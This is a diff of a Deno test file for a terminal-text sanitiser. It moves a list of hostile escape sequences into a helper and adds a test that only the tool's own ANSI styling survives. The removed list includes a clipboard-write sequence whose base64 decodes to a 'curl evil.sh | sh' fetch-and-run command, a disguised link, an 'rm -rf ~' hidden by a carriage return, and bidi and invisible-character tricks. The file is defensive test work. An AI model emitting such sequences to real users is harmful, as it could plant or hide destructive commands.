@@ -1,23 +1,7 @@
+// deno-lint-ignore-file no-control-regex
 import assert from "node:assert/strict";
 import { hasHiddenChars, safeText } from "../../src/ui/safe_text.ts";
-
-/** Hostile sequences a model, a command's output or a file can carry. */
-const HOSTILE = [
-  "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", // OSC 52: write the clipboard
-  "\x1b]0;innocent title\x07", // window title
-  "\x1b[2J\x1b[H", // clear screen, cursor home
-  "\x1b[1A\x1b[2K", // cursor up, erase line: rewrites what was printed
-  "\x1b]8;;https://evil.example/\x1b\\safe link\x1b]8;;\x1b\\", // hyperlink with other text
-  "\x1bP+q544e\x1b\\", // DCS request
-  "\x9b2J", // 8-bit CSI
-  "\x9d0;title\x9c", // 8-bit OSC
-  "echo safe\rrm -rf ~", // carriage return overwrite
-  "ls\x08\x08\x08rm", // backspaces
-  "a\u202eexe.txt", // right-to-left override
-  "if (a \u2066&& b\u2069)", // isolates
-  "zero\u200bwidth", // invisible
-  "\x00\x05\x7f",
-];
+import { HOSTILE } from "../helpers/hostile.ts";
 
 Deno.test("no hostile sequence survives: the result has no C0/C1 control but newline and tab", () => {
   for (const h of HOSTILE) {
@@ -41,5 +25,22 @@ Deno.test("ordinary text, unicode and emoji pass unchanged", () => {
   for (const s of ["plain", "naïve café — ünïcödé", "日本語のテキスト", "emoji 🎉👍", "x\ny\tz"]) {
     assert.equal(safeText(s), s);
     assert.equal(hasHiddenChars(s), false);
+  }
+});
+
+Deno.test("the terminal gate: retie's own sequences pass, nothing that writes the clipboard, title or links does", async () => {
+  const { terminalGuard } = await import("../../src/ui/term.ts");
+  const own =
+    "\x1b[1m\x1b[31mbold red\x1b[39m\x1b[22m\r\x1b[2K\x1b[3A\x1b[J\x1b[12C\x1b[?2004h\n\t";
+  assert.equal(terminalGuard(own), own);
+  for (const h of HOSTILE) {
+    const out = terminalGuard(`x ${h} y`);
+    // No OSC / DCS / APC / PM / SOS introducer, no BEL, no C1, no bidi or invisible character.
+    assert.ok(!/\x1b[\]P_^X]/.test(out), JSON.stringify(out));
+    assert.ok(
+      !/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/.test(out.replace(/\x1b\[[0-9;?]*[a-zA-Z]/g, "")),
+      JSON.stringify(out),
+    );
+    assert.ok(!/[\u202a-\u202e\u2066-\u2069\u200b-\u200f]/.test(out), JSON.stringify(out));
   }
 });
